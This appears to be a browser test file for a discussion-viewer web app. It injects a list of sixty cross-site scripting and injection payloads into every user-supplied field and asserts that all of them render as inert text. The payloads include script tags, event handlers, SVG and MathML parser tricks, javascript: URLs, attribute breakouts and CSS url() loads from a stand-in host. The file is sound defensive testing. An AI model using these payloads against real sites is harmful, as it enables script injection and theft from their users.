"""Sixty attacks in every field that a stranger fills, on the page in a real Chromium: they are shown, and do nothing.

Not here: what a person does on the page (tests/test_bot_web.py), whose server and browser are used.
"""

import json
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect
from test_bot_web import DESKTOP, Served, ask, browser, served

from corpus.thread import storable

pytestmark = pytest.mark.browser
__all__ = ["browser", "served"]

RUN = "window.attacked=1"
ATTACKS = [
    # script elements, whole, nested, cut, and in the names of other elements
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}//",
    f"<script\x0c>{RUN}</script\t>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style><script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    # event handlers
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>more</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>word</marquee>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<p tabindex=1 onpointerenter={RUN} onmouseover={RUN}>word</p>",
    # SVG and MathML
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>#x\">",
    '<svg><foreignObject><iframe srcdoc="<script>parent.attacked=1</script>">',
    f"<math><mtext></table></math><img src onerror={RUN}><!--",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    # frames, objects, forms, and what changes the page
    '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
    "<iframe src=javascript:parent.attacked=1></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    f"<form action=//evil.example><button formaction=javascript:{RUN}>Send</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example>",
    # addresses
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://evil.example/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://evil.example/"onmouseover="{RUN}"x="',
    f"https://user@evil.example/' autofocus onfocus='{RUN}",
    # out of an attribute
    f'"><svg onload={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"x` onmouseover=`{RUN}",
    f"</bdi></div></template><img src=x onerror={RUN}>",
    # entities and look-alikes
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#x3c;img src=x onerror={RUN}&#x3e; &amp;lt;b&amp;gt; &NotAnEntity; &#0; &#xD800;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039img src=x onerror={RUN}\u203a",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- %3Cscript%3E{RUN}%3C/script%3E \\u003cscript\\u003e",
    # templates of Gradio, Handlebars, JavaScript
    f"${{{RUN}}} `${{{RUN}}}` ${{value}}",
    f"{{{{constructor.constructor('{RUN}')()}}}} {{{{#each this}}}}{{{{/each}}}}",
    f"{{{{{{value}}}}}} {{% raw %}} <%= {RUN} %> #{{{RUN}}} {{0}} {{}} %s",
    # Markdown and CSS
    f"[click](javascript:{RUN}) ![x](http://evil.example/x.png) <http://evil.example> `<script>{RUN}</script>`",
    "<style>*{background:url(http://evil.example/x)}@import '//evil.example/x.css'</style>",
    '<p style="position:fixed;inset:0;background:url(//evil.example/x)">over everything</p>',
    # writing direction, what nobody sees, line ends
    f"\u202e\u2066<script>{RUN}</script>\u2069\u202c \u200b\u2060\ufeff \U000e0041",
    f"one\r\ntwo\rthree\u2028four\u2029<img src=x onerror={RUN}>\x00\x0b\x1b[31m\ud800",
]
ELEMENTS = "script, iframe, style, object, embed, base, meta, link, math, marquee, video, audio, noscript, form[action]"
RUNNING = """[...document.querySelectorAll('#dd-panes *')].flatMap(
    (each) => [...each.attributes].filter((one) => one.name.startsWith('on')).map((one) => one.name))"""


def story(thread_id: str, place: int, *, said: str) -> dict[str, Any]:
    """A discussion whose every field attacks; `said` is the form of its comments' words."""
    comments = [
        {
            "id": f"{n} {attack}"[:400],
            "parent_id": None,
            "author": {"id": f"x:{n} {attack}", "handle": attack, "name": f"{attack} {n}"},
            "text": said.format(attack=attack, n=n),
            "url": attack if n % 2 else f"https://evil.example/{attack}",
            "created_at": "2026-03-01T20:00:00Z",
        }
        for n, attack in enumerate(ATTACKS)
    ]
    for n in range(1, len(comments), 7):
        comments[n]["parent_id"] = comments[n - 1]["id"]
    page = {
        "headline": " ".join(ATTACKS[0::4]),
        "tldr": " ".join(ATTACKS[1::4]),
        "sentiment": {"positive": " ".join(ATTACKS[2::4]), "negative": " ".join(ATTACKS[3::4])},
        "questions": [{"question": f"{attack}?", "answer": attack} for attack in ATTACKS],
    }
    title = " ".join(ATTACKS[place::6])
    url = ATTACKS[35 + place]
    return {"id": thread_id, "source": ATTACKS[0], "title": title, "url": url, "comments": comments, "page": page}


def test_sixty_attacks_are_shown_as_the_text_that_they_are(browser: Browser, served: Served) -> None:
    assert len(set(ATTACKS)) == 60
    product = served.product
    for place, said in enumerate(("{attack}", "The lantern number {n} swings in the storm. {attack}")):
        export = story(f"attacks-{place}", place, said=said)
        left_out = product.ingest(json.dumps(export).encode()).skipped
        assert all("is no http address" in one.reason for one in left_out)
        assert product.thread(export["id"]).page is not None
    for attack in ATTACKS:
        product.ask(f"Which lantern swings in the storm? {attack}", thread_ids=("attacks-1",))
    with browser.new_context(viewport=DESKTOP, reduced_motion="reduce") as context:
        wrong: list[str] = []
        context.on("request", lambda sent: sent.url.startswith(served.url) or wrong.append(f"request to {sent.url}"))
        context.on("dialog", lambda shown: wrong.append(f"dialog {shown.message}"))
        context.on("weberror", lambda thrown: wrong.append(f"error {thrown.error}"))
        context.on("console", lambda line: line.type != "error" or wrong.append(f"console {line.text}"))
        page = context.new_page()
        context.on("page", lambda opened: wrong.append(f"opened {opened.url}"))
        page.set_default_timeout(20_000)
        every_post_is_its_text(page, served)
        every_citation_is_its_text(page, served)
        assert wrong == []


def every_post_is_its_text(page: Page, served: Served) -> None:
    page.goto(f"{served.url}/?story=attacks-0")
    page.wait_for_selector("#dd-story-part .dd-post")
    page.click("[data-more]")
    expect(page.locator("[data-posts] .dd-post")).to_have_count(60)
    shown = page.eval_on_selector_all(
        ".dd-post [data-text]", "all => all.map(each => [each.closest('.dd-post').dataset.comment, each.textContent])"
    )
    assert sorted(text for _, text in shown) == sorted(storable(attack) for attack in ATTACKS)
    held = page.text_content("#dd-left") or ""
    for attack in ATTACKS:
        assert seen(attack) in seen(held), attack
    assert seen(page.title()).startswith(seen(" ".join(ATTACKS[0::6]))[:50])
    nothing_of_it_lives(page)


def every_citation_is_its_text(page: Page, served: Served) -> None:
    page.goto(f"{served.url}/?story=attacks-1")
    page.wait_for_selector("#dd-story-part .dd-post")
    for attack in ATTACKS[::10]:
        ask(page, f"Which lantern swings in the storm? {attack}")
        assert seen(attack) in seen(page.text_content("#dd-turn-part .dd-asked") or "")
    assert page.locator("#dd-turn-part .dd-quote").count() > 0
    page.locator("#dd-turn-part .dd-quote").first.click()
    page.wait_for_selector("#dd-story-part .dd-post.dd-here mark")
    nothing_of_it_lives(page)
    page.reload()
    page.wait_for_selector(".dd-past .dd-quote")
    page.click(".dd-all")
    expect(page.locator(".dd-stories")).to_contain_text(ATTACKS[6])
    for attack in ATTACKS[5::10]:
        page.fill("[data-find]", attack)
        expect(page.locator(".dd-stories")).to_be_visible()
    page.wait_for_timeout(1_000)  # the page asks for a list a moment after the last key, and then replaces it
    nothing_of_it_lives(page)


def nothing_of_it_lives(page: Page) -> None:
    """No element, handler or address of an attack, wherever the mouse goes and whatever is in focus."""
    for each in page.locator("#dd-panes :is(a, summary, [tabindex], .dd-name)").all()[:40]:
        if each.is_visible():
            each.hover(force=True)
    assert page.evaluate("window.attacked") is None
    assert len(page.frames) == 1
    assert page.locator(f"#dd-panes :is({ELEMENTS})").count() == 0
    assert page.locator("#dd-panes svg:not(.dd-icon), #dd-panes svg :not(path)").count() == 0
    assert page.evaluate(RUNNING) == []
    leading = page.eval_on_selector_all("#dd-panes a", "all => all.map(each => [each.className, each.href])")
    assert {urlsplit(to).scheme for _, to in leading} <= {"http", "https"}
    away = [css for css, to in leading if not to.startswith(page.url.partition("?")[0])]
    assert set(away) <= {"dd-out"}


def seen(text: str) -> str:
    """The text but for its spaces, which names show as single ones."""
    return "".join(storable(text).split())
